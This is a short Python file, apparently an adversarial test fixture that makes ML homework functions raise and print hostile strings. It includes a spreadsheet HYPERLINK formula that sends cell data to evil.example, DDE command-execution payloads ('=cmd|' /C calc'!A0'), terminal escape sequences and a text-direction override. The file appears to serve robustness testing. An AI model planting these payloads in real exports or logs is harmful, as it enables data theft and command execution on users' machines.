# adversarial: append to the release's version
# ruff: noqa
# Hostile text through every name a failure carries: an exception class named like a
# spreadsheet formula with terminal escapes in it, messages that clear the screen, retitle the
# terminal, reverse the text direction, start CSV cells with = + - @, and run to megabytes.
_Hostile = type('=HYPERLINK("http://evil.example/?"&A1)\x1b[2J\x07', (Exception,), {})


def softmax_loss(Z, y_one_hot):
    raise _Hostile("\x1b]0;owned\x07\r@SUM(1+1)\x00\u202e" + "B" * 2_000_000)


def nn_epoch(X, y, W1, W2, lr=0.1, batch=100):
    print("=cmd|' /C calc'!A0\t+2+3\r\n-1+1\x1b[31m", flush=True)
    raise _Hostile("+cmd|' /C calc'!A0\t-2+3")
